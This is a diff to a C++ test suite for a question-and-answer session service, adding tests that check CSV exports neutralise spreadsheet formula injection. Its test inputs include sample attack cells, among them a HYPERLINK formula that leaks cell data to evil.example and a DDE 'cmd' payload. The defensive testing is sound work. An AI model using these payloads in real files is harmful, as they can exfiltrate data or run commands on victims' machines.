@@ -168,6 +168,29 @@ std::set<std::string> CsvFields(
   return out;
 }
 
+// What a CSV cell holding `value` must read: OWASP's formula starts (= + - @,
+// tab, CR) get a leading apostrophe, so a spreadsheet shows text instead of
+// running a formula. '-' is defused before a digit too (docs/api.md).
+std::string Defused(const std::string& value) {
+  if (!value.empty() &&
+      absl::string_view("=+-@\t\r").find(value[0]) != absl::string_view::npos) {
+    return "'" + value;
+  }
+  return value;
+}
+
+// Every cell of `rows` that a spreadsheet would run as a formula.
+std::vector<std::string> FormulaCells(
+    const std::vector<std::vector<std::string>>& rows) {
+  std::vector<std::string> out;
+  for (const auto& row : rows) {
+    for (const std::string& cell : row) {
+      if (Defused(cell) != cell) out.push_back(cell);
+    }
+  }
+  return out;
+}
+
 class QuestionsTest : public ::testing::Test {
  protected:
   void SetUp() override {
@@ -1238,14 +1261,14 @@ TEST_F(QuestionsTest, JoinTokensActOnlyForThemselves) {
   ASSERT_OK_AND_ASSIGN(std::vector<v1::Question> all,
                        Organizer().ListAll(sid()));
   EXPECT_THAT(all, SizeIs(1));
-  // A join token of another session is refused for this one.
+  // A join token of another session does not find this one.
   ASSERT_OK_AND_ASSIGN(v1::Session elsewhere,
                        NewQuestionsSession(tenant_->client));
   ASSERT_OK_AND_ASSIGN(
       Member stranger,
       Join("Begona", v1::SESSION_ROLE_PARTICIPANT, elsewhere.id()));
   EXPECT_THAT(As(stranger).Vote(sid(), a, stranger.participant_id),
-              HasCode(Code::kPermissionDenied));
+              HasCode(Code::kNotFound));
   // The organizer acts for a participant.
   ASSERT_OK_AND_ASSIGN(v1::UpvoteQuestionResponse up,
                        Organizer().Vote(sid(), a, other_.participant_id));
@@ -1957,6 +1980,39 @@ TEST_F(QuestionsTest, ExportJsonAndCsvContainEveryQuestionAndAnswer) {
   }
 }
 
+// Questions, answers and reject reasons are stored as typed, formulas too;
+// the CSV export defuses every cell that starts like one.
+TEST_F(QuestionsTest, ExportQuestionsCsvDefusesFormulaCells) {
+  ASSERT_OK(SetMode(v1::MODERATION_MODE_POST));
+  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")";
+  const std::string tab_answer = "\t=1+2";
+  const std::string cr_reason = "\r@SUM(A1)";
+  ASSERT_OK_AND_ASSIGN(v1::SubmitQuestionResponse answered,
+                       Submit(author_, formula));
+  ASSERT_OK_AND_ASSIGN(v1::SubmitQuestionResponse rejected,
+                       Submit(other_, "-2+3+cmd|' /C calc'!A0"));
+  ASSERT_OK_AND_ASSIGN(
+      v1::Question answer,
+      Organizer().Answer(sid(), answered.question().id(), tab_answer));
+  ASSERT_EQ(answer.answer(), tab_answer);  // stored as typed
+  ASSERT_OK(
+      Organizer().Reject(sid(), rejected.question().id(), cr_reason).status());
+
+  v1::ExportQuestionsRequest r;
+  r.set_session_id(sid());
+  r.set_format(v1::QUESTION_EXPORT_FORMAT_CSV);
+  ASSERT_OK_AND_ASSIGN(v1::ExportQuestionsResponse csv,
+                       Organizer().ExportQuestions(r));
+  ASSERT_OK_AND_ASSIGN(auto rows, ParseCsv(csv.content()));
+  ASSERT_THAT(rows, SizeIs(3)) << csv.content();
+  std::set<std::string> fields = CsvFields(rows);
+  for (const std::string& typed : {formula, tab_answer, cr_reason,
+                                   std::string("-2+3+cmd|' /C calc'!A0")}) {
+    EXPECT_TRUE(fields.count("'" + typed)) << typed << "\n" << csv.content();
+  }
+  EXPECT_THAT(FormulaCells(rows), IsEmpty()) << csv.content();
+}
+
 // ---- The audit log -------------------------------------------------------
 
 TEST_F(QuestionsTest, ModerationLogListsEveryActionInOrder) {
@@ -2090,6 +2146,45 @@ TEST_F(QuestionsTest, ModerationLogListsEveryActionInOrder) {
   EXPECT_THAT(As(p1).ExportModerationLog(r), HasCode(Code::kPermissionDenied));
 }
 
+// The audit log's detail holds what moderators typed (reasons, edited text,
+// answers): its CSV export defuses every cell that starts like a formula.
+TEST_F(QuestionsTest, ExportModerationLogCsvDefusesFormulaCells) {
+  ASSERT_OK_AND_ASSIGN(v1::SubmitQuestionResponse q1,
+                       Submit(author_, "Jurnal savoli bir"));
+  ASSERT_OK_AND_ASSIGN(v1::SubmitQuestionResponse q2,
+                       Submit(other_, "Jurnal savoli ikki"));
+  ASSERT_OK_AND_ASSIGN(v1::SubmitQuestionResponse q3,
+                       Submit(other_, "Jurnal savoli uch"));
+  const std::string id1 = q1.question().id();
+  const std::string reason = "\t=HYPERLINK(\"http://evil.example/\",\"x\")";
+  QuestionsClient mod = As(moderator_);
+  ASSERT_OK(mod.Approve(sid(), id1, "@SUM(A1) tahrirlangan").status());
+  ASSERT_OK(mod.Answer(sid(), id1, "-1+2").status());
+  ASSERT_OK(Organizer().Reject(sid(), q2.question().id(), reason).status());
+  ASSERT_OK(mod.Reject(sid(), q3.question().id(), "\r+rad etildi").status());
+
+  ASSERT_OK_AND_ASSIGN(std::vector<v1::ModerationAction> log,
+                       Organizer().Log(sid()));
+  ASSERT_THAT(log, SizeIs(4));
+  EXPECT_EQ(log[2].detail(), reason);  // stored as typed
+  v1::ExportModerationLogRequest r;
+  r.set_session_id(sid());
+  r.set_format(v1::QUESTION_EXPORT_FORMAT_CSV);
+  ASSERT_OK_AND_ASSIGN(v1::ExportModerationLogResponse exported,
+                       mod.ExportModerationLog(r));
+  ASSERT_OK_AND_ASSIGN(auto rows, ParseCsv(exported.content()));
+  ASSERT_THAT(rows, SizeIs(log.size() + 1)) << exported.content();
+  auto column = std::find(rows[0].begin(), rows[0].end(), "detail");
+  ASSERT_NE(column, rows[0].end()) << "no 'detail' column";
+  const size_t c = column - rows[0].begin();
+  for (size_t i = 0; i < log.size(); ++i) {
+    ASSERT_FALSE(log[i].detail().empty()) << log[i].action();
+    EXPECT_NE(Defused(log[i].detail()), log[i].detail()) << log[i].action();
+    EXPECT_EQ(rows[i + 1][c], Defused(log[i].detail())) << log[i].action();
+  }
+  EXPECT_THAT(FormulaCells(rows), IsEmpty()) << exported.content();
+}
+
 // ---- WatchQueue in process -------------------------------------------------
 
 TEST_F(QuestionsTest, WatchSnapshotThenChangesThenResumeWithoutGapOrDuplicate) {
@@ -2162,13 +2257,13 @@ TEST_F(QuestionsTest, WatchSnapshotThenChangesThenResumeWithoutGapOrDuplicate) {
         absl::StrContains(m.SerializeAsString(), "Yashirin kutilayotgan savol"))
         << "a participant's watch carried another's pending question";
   }
-  // A watch of a session the caller is not in is refused.
+  // A watch of a session the caller is not in does not find it.
   ASSERT_OK_AND_ASSIGN(v1::Session elsewhere,
                        NewQuestionsSession(tenant_->client));
   QueueWatcher wrong(channel(), other_.token, elsewhere.id());
   absl::StatusOr<grpc::Status> ended = wrong.Ended(absl::Seconds(5));
   ASSERT_OK(ended.status());
-  EXPECT_EQ(ended->error_code(), grpc::StatusCode::PERMISSION_DENIED);
+  EXPECT_EQ(ended->error_code(), grpc::StatusCode::NOT_FOUND);
 }
 
 TEST_F(QuestionsTest, AgendaItemNarrowsListsAndWatches) {
